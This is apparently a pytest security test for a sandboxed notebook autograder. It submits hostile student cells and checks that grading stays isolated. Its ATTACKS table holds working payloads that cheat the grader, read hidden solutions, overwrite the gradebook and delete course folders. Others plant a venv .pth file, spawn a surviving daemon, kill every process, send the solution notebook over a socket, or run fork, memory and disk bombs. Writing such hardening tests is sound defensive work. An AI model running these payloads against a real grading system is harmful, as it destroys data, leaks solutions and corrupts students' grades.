"""Hostile submissions through the real `make autograde` path (python -m grader.autograde).

Every attacker submits the blank ps1 notebook plus one code cell of attack: it must score
exactly what the blank notebook scores (0), and the honest students graded in the same
run keep their exact scores. Afterwards the course files, the venv's site-packages, the
honest students' submissions and gradebook rows are unchanged, no process started by
grading is alive, and nothing reached a listener on the host's loopback. The attacks
know the instructor's absolute paths (the worst case).
"""

import hashlib
import os
import socket
import subprocess
import sys
import sysconfig
import threading
from pathlib import Path

import nbformat
import pytest

import nbkit

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="bubblewrap is Linux-only")

ASSIGNMENT = "ps1_chain_rule"

# name -> attack code; {root}, {port}, {site} are filled in.
ATTACKS = {
    # Full marks for nothing
    "displayhook_partial_credit": "import sys\nsys.displayhook(15.0)\n15.0",
    "patch_the_checker": (
        "import utils.checks.core as core, utils.checks as checks, importlib\n"
        "core.close = lambda *a, **k: (lambda got, want, ctx: None)\n"
        "checks.run_checks = lambda *a, **k: None\nimportlib.reload = lambda m: m"),
    "import_hook": (
        "import builtins\n_real = builtins.__import__\n"
        "def _imp(name, *a, **k):\n    return _real(name, *a, **k)\n"
        "builtins.__import__ = _imp"),
    "meta_path_loader": (
        "import sys\nclass F:\n    def find_spec(self, *a, **k):\n        return None\n"
        "sys.meta_path.insert(0, F())"),
    "define_answers_that_fake_equality": (
        "class Always(float):\n    def __eq__(self, o): return True\n"
        "    def __sub__(self, o): return 0.0\n"
        "def central_difference(f, x, h=1e-5): return Always(0)\n"
        "def jacobian_f(u): return Always(0)"),
    "read_solutions_from_source": (
        "import json\nnb = json.load(open('{root}/source/ps1_chain_rule/ps1_chain_rule.ipynb'))\n"
        "for c in nb['cells']:\n"
        "    if c['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(c['source']):\n"
        "        exec(''.join(c['source']))"),
    "read_hidden_checks": (
        "exec(open('{root}/grader/hidden/ps1_chain_rule.py').read())"),
    "use_the_masked_reference": (
        "from utils.gradcheck import numerical_derivative\n"
        "def central_difference(f, x, h=1e-5): return numerical_derivative(f, x, h)"),
    "import_reference_by_built_name": (
        "import importlib\nm = importlib.import_module('utils.' + 'grad' + 'check')\n"
        "central_difference = getattr(m, 'numerical_' + 'derivative')"),
    "use_torch": "import torch\ndef d_sin_cos(x): return torch.tensor(x)",
    # Damage to others and to the course
    "rewrite_other_submission": (
        "import glob\nfor p in glob.glob('{root}/submitted/*/ps1_chain_rule/*.ipynb'):\n"
        "    open(p, 'w').write('{{}}')"),
    "edit_gradebook": (
        "import sqlite3\ndb = sqlite3.connect('{root}/gradebook.db')\n"
        "db.execute('update grade set auto_score = 0')\ndb.commit()"),
    "truncate_gradebook": "open('{root}/gradebook.db', 'w').close()",
    "append_to_course_package": "open('{root}/utils/checks/core.py', 'a').write('\\nX = 1\\n')",
    "pth_file_in_venv": "open('{site}/zzz_evil.pth', 'w').write('import os\\n')",
    "delete_course": (
        "import shutil\nfor d in ['source', 'release', '.git', 'grader']:\n"
        "    shutil.rmtree('{root}/' + d, ignore_errors=True)"),
    "daemon_outlives_grading": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(3)\n        open('{root}/grades.csv', 'w').write('s,15')\n"
        "        time.sleep(600)\n    os._exit(0)"),
    "stop_own_runner": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "kill_every_process": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    # Leaks and runaway resources
    "exfiltrate_to_loopback": (
        "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "s.sendall(open('{root}/source/ps1_chain_rule/ps1_chain_rule.ipynb', 'rb').read())"),
    "exception_carries_text": "raise RuntimeError('LEAKED-MARKER ' * 50)",
    "memory_bomb": "x = bytearray(6 * 1024 ** 3)",
    "disk_bomb": (
        "with open('/tmp/big', 'wb') as f:\n    for _ in range(5 * 1024):\n"
        "        f.write(b'0' * 1024 ** 2)"),
    "fork_bomb": (
        "import os, time\nfor _ in range(100):\n    if os.fork() == 0:\n        time.sleep(600)\n"
        "        os._exit(0)"),
    "loop_ignoring_signals": (
        "import signal\nfor s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):\n"
        "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass"),
}
HONEST = ["honest_a", "honest_b", "honest_noisy"]  # the last one also writes to stderr


def _hash_tree(root, folders):
    h = hashlib.sha256()
    for folder in folders:
        path = root / folder
        files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
        for p in files:
            h.update(str(p.relative_to(root)).encode() + p.read_bytes())
    return h.hexdigest()


def _site_packages_listing():
    site = Path(sysconfig.get_paths()["purelib"])
    return sorted(p.name for p in site.iterdir()), site


def _listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    received = []

    def accept():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            received.append(conn.recv(1024))
            conn.close()
    threading.Thread(target=accept, daemon=True).start()
    return server, received


UID_BASE = 300000  # this test's sandboxes only (other runs use other uids)


def _sandbox_processes():
    """Processes running as one of this test's sandbox uids (grader.sandbox._sandbox_uid)."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if UID_BASE <= entry.stat().st_uid < UID_BASE + 50000:
                    found.append(entry.name)
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = nbkit.make_course(tmp_path_factory.mktemp("course"), [ASSIGNMENT])
    assert nbkit.run(root, "generate_assignment", ASSIGNMENT, "--force").returncode == 0
    release = nbkit.read(root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    source = nbkit.read(root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    for student in HONEST:
        nb = nbkit.perfect_submission(release, source)
        if student == "honest_noisy":
            nb.cells.insert(2, nbformat.v4.new_code_cell(
                "import sys, warnings\nprint('a warning', file=sys.stderr)\n"
                "warnings.warn('deprecated')"))
        nbkit.submit(root, student, ASSIGNMENT, nb)
    nbkit.submit(root, "blank", ASSIGNMENT, release)
    server, received = _listener()
    names, site = _site_packages_listing()
    fill = {"root": root, "port": server.getsockname()[1], "site": site}
    for name, code in ATTACKS.items():
        nb = nbformat.from_dict(release)
        nb.cells.insert(2, nbformat.v4.new_code_cell(code.format(**fill)))
        nbkit.submit(root, name.replace("_", "-"), ASSIGNMENT, nb)
    honest_files = _hash_tree(root, [f"submitted/{s}" for s in HONEST])
    course = _hash_tree(root, ["source", "release", "utils", "grader", "nbgrader_config.py"])
    env = {**nbkit.environment(), "GRADER_TIMEOUT": "40", "GRADER_CELL_TIMEOUT": "5",
           "GRADER_UID_BASE": str(UID_BASE)}
    result = subprocess.run([sys.executable, "-m", "grader.autograde", ASSIGNMENT, "--jobs", "2"],
                            cwd=root, env=env, capture_output=True, text=True, timeout=900)
    export = nbkit.run(root, "export", "--to=grades.csv")
    state = dict(root=root, result=result, scores=nbkit.scores(root, ASSIGNMENT),
                 received=list(received), survivors=_sandbox_processes(),
                 honest_files=(honest_files, _hash_tree(root, [f"submitted/{s}" for s in HONEST])),
                 course=(course, _hash_tree(root, ["source", "release", "utils", "grader",
                                                   "nbgrader_config.py"])),
                 site=(names, _site_packages_listing()[0]), export=export)
    server.close()
    yield state


def test_autograde_finishes_and_grades_everyone(attacked):
    assert attacked["result"].returncode == 0, attacked["result"].stderr[-3000:]
    assert "all" in attacked["result"].stdout


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attacker_scores_what_a_blank_notebook_scores(attacked, name):
    scores = attacked["scores"]
    student = name.replace("_", "-")
    assert student in scores, f"{student} was not graded"
    assert scores[student] == scores["blank"], (
        f"{name} scored {scores[student]}, a blank notebook {scores['blank']}")


def test_honest_students_keep_their_exact_scores(attacked):
    scores = attacked["scores"]
    full = 12.0  # ps1's autograded points (the 3 written points wait for hand grading)
    assert [sum(v for v in scores[s].values() if v) for s in HONEST] == [full] * 3, scores


def test_course_files_venv_and_other_submissions_are_unchanged(attacked):
    assert attacked["course"][0] == attacked["course"][1], "course files changed"
    assert attacked["site"][0] == attacked["site"][1], "the venv's site-packages changed"
    assert attacked["honest_files"][0] == attacked["honest_files"][1], "a submission changed"
    assert (attacked["root"] / "gradebook.db").stat().st_size > 0


def test_no_process_started_by_grading_survives(attacked):
    assert attacked["survivors"] == []


def test_nothing_reaches_the_network(attacked):
    assert attacked["received"] == []


def test_student_text_reaches_grades_only_as_one_short_line(attacked):
    """A student's own error is shown in their graded notebook as one line of at most 160
    characters; test cells show only what the grader wrote; grades.csv is the grader's."""
    root = attacked["root"]
    for path in (root / "autograded").rglob("*.ipynb"):
        nb = nbformat.read(path, as_version=4)
        for cell in nb.cells:
            for output in cell.get("outputs", []):
                if output.output_type == "error":
                    assert "\n" not in output.evalue and len(output.evalue) <= 160, path
                    assert output.traceback == [f"{output.ename}: {output.evalue}"], path
                if nbkit.is_test(cell):
                    assert output.output_type in ("error", "stream"), path
                    assert "LEAKED-MARKER" not in str(output), path
    assert "s,15" not in (root / "grades.csv").read_text()
